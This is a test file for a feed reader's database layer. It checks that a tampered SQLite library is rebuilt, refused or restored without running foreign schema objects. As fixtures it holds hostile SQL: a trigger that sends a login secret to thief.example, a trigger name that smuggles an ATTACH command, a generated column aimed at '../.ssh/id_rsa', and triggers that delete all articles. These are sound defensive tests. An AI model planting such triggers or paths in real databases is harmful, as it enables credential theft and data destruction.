/** A library from somebody else, whose file holds more than rows: carried out, with the file that a stranger would give away. */
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { describe, expect, it } from 'vitest';
import { execIn, strangeLibrary } from '../../../testing/strange-library.ts';
import { temporaryFolder, temporaryLibrary } from '../../../testing/temporary-library.ts';
import { errorOf, mustBeOk, type TestCore, testCore } from '../../../testing/test-core.ts';
import { createCore, nodeWorkers } from '../../index.ts';
import { articlesIn, damageInFile } from '../../store/file-checks.ts';
import { openAtFirst, openReadable, openWritable } from '../../store/open.ts';
import { restoreLibrary } from './restore-backup.ts';

/** Broadsheet sets no schema of a file; a stranger does. */
const inSchema = (sql: string): string => `PRAGMA writable_schema = ON; ${sql}; PRAGMA writable_schema = RESET`;

const keptFiles = (folder: string): string[] =>
  readdirSync(folder).filter((name) => /^library-before-.*\.db$/.test(name));

function schemaOf(folder: string): readonly string[] {
  const db = new DatabaseSync(join(folder, 'library.db'), { readOnly: true });
  const names = db.prepare('SELECT name FROM sqlite_schema').all();
  db.close();
  return names.map(({ name }) => String(name));
}

async function titlesIn(core: Pick<TestCore, 'call'>): Promise<string[]> {
  const { articles } = mustBeOk(await core.call('articles.list', { view: 'all' }));
  return articles.map(({ title }) => title).sort();
}

function open(libraryFolder: string) {
  return createCore({ libraryFolder, workers: nodeWorkers, taskWorkers: 1, waitForOwnerMs: 200 });
}

const all = ['Flood a', 'Flood b', 'Flood c'];

const strange: readonly (readonly [what: string, sql: string])[] = [
  ['a trigger', 'CREATE TRIGGER zz AFTER INSERT ON setting BEGIN DELETE FROM article; END'],
  [
    'a trigger of ours that does something else',
    'DROP TRIGGER tags_changed; CREATE TRIGGER tags_changed AFTER UPDATE OF extras ON article_body BEGIN DELETE FROM article_tag; END',
  ],
  [
    'a trigger whose name is a statement',
    'CREATE TRIGGER "zz; COMMIT; ATTACH DATABASE \'planted.db\' AS p" AFTER INSERT ON setting BEGIN SELECT 1; END',
  ],
  ['a view', 'CREATE VIEW zz AS SELECT secret FROM login'],
  ['a table', 'CREATE TABLE zz (a)'],
  ['a virtual table', 'CREATE VIRTUAL TABLE zz USING fts5(a)'],
  ['an index on an expression', 'CREATE INDEX zz ON article(hex(zeroblob(length(title))))'],
  ['a column', 'ALTER TABLE feed ADD COLUMN zz'],
  ['a column that is computed', 'ALTER TABLE feed ADD COLUMN zz TEXT GENERATED ALWAYS AS (url || settings) VIRTUAL'],
  [
    'a check',
    inSchema(
      "UPDATE sqlite_schema SET sql = replace(sql, 'value TEXT NOT NULL', 'value TEXT NOT NULL CHECK (length(value) < 9)') WHERE name = 'setting'",
    ),
  ],
  ['one trigger less', 'DROP TRIGGER status_changed'],
  ['one index less', 'DROP INDEX feed_url'],
  ['the version of an older form', 'PRAGMA user_version = 3'],
  [
    'a table of statistics of another form',
    inSchema(
      "INSERT INTO sqlite_schema VALUES ('table', 'sqlite_stat1', 'sqlite_stat1', (SELECT max(rootpage) FROM sqlite_schema), 'CREATE TABLE sqlite_stat1(tbl,idx,stat,more)')",
    ),
  ],
  [
    'two tables in one place',
    inSchema(
      "UPDATE sqlite_schema SET rootpage = (SELECT rootpage FROM sqlite_schema WHERE name = 'fact') WHERE name = 'setting'",
    ),
  ],
];

describe('A library with parts of somebody else’s making', () => {
  it('gives no login away: its trigger is gone before one is entered', async () => {
    const folder = strangeLibrary(`CREATE TRIGGER zz AFTER INSERT ON login BEGIN
      UPDATE feed SET url = 'https://thief.example/' || NEW.secret WHERE id = 2; END`);
    const core = await testCore({ libraryFolder: folder });
    const credentials = { kind: 'basic', username: 'anna', password: 'SECRET-PW' } as const;
    mustBeOk(await core.call('feeds.configure', { ids: [1], credentials }));
    const feeds = JSON.stringify(mustBeOk(await core.call('feeds.list', {})));
    expect(feeds).not.toContain('thief.example');
    expect(feeds).not.toContain('SECRET-PW');
    expect(await titlesIn(core)).toEqual(all);
  });

  it.each(strange)('is made anew without them, and kept as it was: %s', async (_, sql) => {
    const folder = strangeLibrary(sql);
    const core = await testCore({ libraryFolder: folder });
    expect(await titlesIn(core)).toEqual(all);
    expect(mustBeOk(await core.call('feeds.list', {}))).toHaveLength(2);
    expect(mustBeOk(await core.call('articles.search', { query: 'flood' })).total).toBe(3);
    const [kept = '', ...others] = keptFiles(folder);
    expect(others).toEqual([]);
    const { notices } = mustBeOk(await core.call('library.info', {}));
    expect(notices).toEqual([expect.stringContaining(`kept beside it as ${kept}`)]);
    expect(schemaOf(folder).filter((name) => name.startsWith('zz'))).toEqual([]);
    expect(existsSync('planted.db')).toBe(false);
    await core.core.close();
    // from now on it is ours
    await mustBeOk(await open(folder)).close();
    expect(keptFiles(folder)).toEqual([kept]);
  });

  it.each(strange)('is opened by nothing else: %s', (_, sql) => {
    const folder = strangeLibrary(sql);
    const before = readFileSync(join(folder, 'library.db'));
    expect(errorOf(openWritable(folder))).toBe('library_damaged');
    expect(errorOf(openAtFirst(folder))).toBe('library_damaged');
    expect(readFileSync(join(folder, 'library.db')).equals(before)).toBe(true);
  });

  it('has no rows taken from views, computed columns and what is no table: whatever they would do is not begun', async () => {
    const endless = 'WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT';
    const folder =
      strangeLibrary(`DROP TABLE setting; CREATE VIEW setting AS ${endless} 'theme' AS name, sum(i) AS value FROM n;
      DROP TABLE feed_counter; CREATE VIEW feed_counter AS ${endless} i AS feed_id, i AS unread, sum(i) AS total FROM n;
      DROP TABLE host_state; CREATE VIRTUAL TABLE host_state USING fts5(host, state);
      DROP TABLE media; CREATE TABLE media (url TEXT PRIMARY KEY, path TEXT GENERATED ALWAYS AS ('../.ssh/id_rsa') VIRTUAL,
        size_bytes INTEGER, fetched_at INTEGER, used_at INTEGER);
      INSERT INTO media (url, size_bytes, fetched_at, used_at) VALUES ('https://x.example/', 1, 1, 1)`);
    expect(articlesIn(join(folder, 'library.db'))).toBeUndefined();
    const core = await testCore({ libraryFolder: folder });
    expect(await titlesIn(core)).toEqual(all);
    await core.core.close();
    const now = new DatabaseSync(join(folder, 'library.db'), { readOnly: true });
    expect(now.prepare('SELECT url, path FROM media').all()).toEqual([{ url: 'https://x.example/', path: null }]);
    now.close();
  });

  it('has only such values taken as ours can have, and says how many rows were left out', async () => {
    const folder = strangeLibrary(`DROP TRIGGER tags_changed;
      UPDATE feed SET settings = '5', attributes = 'x', allow_private = '["192.168.0.1:80"]', added_at = 'never' WHERE id = 2;
      UPDATE feed SET settings = '[]', login_id = 1 WHERE id = 1;
      INSERT INTO login (id, feed_id, origin, secret) VALUES (1, 1, 'https://courier.example', '[1');
      UPDATE article_status SET starred = 'x', starred_at = 1e400 WHERE rowid = (SELECT min(article_id) FROM article_status);
      UPDATE article SET published_at = 9223372036854775807, title = x'00ff' WHERE title = 'Flood a';
      UPDATE article_body SET extras = zeroblob(50000000) WHERE article_id = (SELECT id FROM article WHERE title = 'Flood b');
      INSERT INTO fact VALUES ('index_down_to', 'abc');
      INSERT INTO folder (id, name, position, parent_id) VALUES (1, 'Lost', 1, 99);
      INSERT INTO operation (at, kind, label, change, state) VALUES (1, 'mark', 'x', '{"rows":', 'running')`);
    const core = await testCore({ libraryFolder: folder });
    expect(mustBeOk(await core.call('library.info', {})).notices[0]).toMatch(/\d of its rows did not fit/);
    expect(await titlesIn(core)).toEqual(['Flood b', 'Flood c']);
    expect(mustBeOk(await core.call('feeds.list', {}))).toMatchObject([{ id: 1 }]);
    expect(mustBeOk(await core.call('folders.list', {}))).toMatchObject([{ name: 'Lost', parentId: null }]);
  });
});

describe('A library of our form whose values are of no form', () => {
  it('opens, shows its feeds and articles, and has what is not to be understood left out', async () => {
    const folder = strangeLibrary(`
      UPDATE feed SET settings = '[1', attributes = 'x', allow_private = '{"a":1}', login_id = 1;
      UPDATE feed_state SET wishes = x'00ff';
      INSERT INTO login (id, feed_id, origin, secret) VALUES (1, 1, 'https://courier.example', '[1');
      INSERT INTO host_state (host, state) VALUES ('courier.example', '{"half'), ('second.example', '7');
      INSERT INTO setting (name, value) VALUES ('theme', '['), ('firstRunDone', '[5]');
      INSERT INTO fact (key, value) VALUES ('today_visit', 'now'), ('rows_taken', 'Call this number');
      INSERT INTO operation (at, kind, label, change, state) VALUES (1, 'mark', 'x', '{"rows":', 'running'), (1, 'mark', 'x', '5', 'running'),
        (1, 'rename', 'x', 'x', 'undoing')`);
    const core = await testCore({ libraryFolder: folder });
    expect(keptFiles(folder)).toEqual([]);
    expect(await titlesIn(core)).toEqual(all);
    expect(mustBeOk(await core.call('feeds.list', {}))).toHaveLength(2);
    expect(mustBeOk(await core.call('settings.get', {}))).toMatchObject({ theme: 'system' });
    expect(mustBeOk(await core.call('library.info', {})).notices).toEqual([]);
    mustBeOk(await core.call('opml.export', {}));
  });
});

describe('A backup with parts of somebody else’s making', () => {
  it('is counted and looked through without any of them, and restored as its rows alone', async () => {
    const from = strangeLibrary(
      'CREATE VIEW zz AS SELECT 1; CREATE TRIGGER zy AFTER INSERT ON event BEGIN DELETE FROM article; END; PRAGMA journal_mode = DELETE',
    );
    const { folder } = temporaryLibrary();
    mkdirSync(join(folder, 'backups'));
    const name = 'manual-20260101-000000.db';
    copyFileSync(join(from, 'library.db'), join(folder, 'backups', name));
    expect(articlesIn(join(folder, 'backups', name))).toBeUndefined();
    expect(damageInFile(join(folder, 'backups', name), () => {})).toBeDefined();
    mustBeOk(restoreLibrary(folder, name));
    const core = await testCore({ libraryFolder: folder });
    expect(await titlesIn(core)).toEqual(all);
    expect(schemaOf(folder)).not.toContain('zy');
  });
});

describe('A library file that is no file', () => {
  const make: Readonly<Record<string, (place: string, ours: string) => void>> = {
    'a link to another database': (place, ours) => symlinkSync(ours, place),
    'a pipe': (place) => execFileSync('mkfifo', [place]),
    'a folder': (place) => mkdirSync(place),
  };

  it.each(
    ['library.db', 'library.db-wal', 'library.db-journal'].flatMap((name) =>
      Object.keys(make).map((what) => [name, what] as const),
    ),
  )('%s that is %s is neither followed nor waited at, and what it leads to is not touched', (name, what) => {
    const folder = strangeLibrary('');
    const elsewhere = join(temporaryFolder(), 'places.sqlite');
    execIn(elsewhere, 'CREATE TABLE places (url)');
    const before = readFileSync(elsewhere);
    if (name === 'library.db') renameSync(join(folder, name), join(folder, 'moved.db'));
    make[what]?.(join(folder, name), elsewhere);
    for (const result of [openWritable(folder), openReadable(folder), openAtFirst(folder)])
      expect(errorOf(result)).toBe('library_not_ours');
    expect(readFileSync(elsewhere).equals(before)).toBe(true);
    expect(readdirSync(join(elsewhere, '..'))).toEqual(['places.sqlite']);
  });

  it('that belongs to another program is not changed, not even the way it keeps its log', async () => {
    const folder = temporaryFolder();
    execIn(join(folder, 'library.db'), 'CREATE TABLE places (url)');
    const before = readFileSync(join(folder, 'library.db'));
    expect(errorOf(await open(folder))).toBe('library_damaged');
    expect(readFileSync(join(folder, 'library.db')).equals(before)).toBe(true);
  });
});
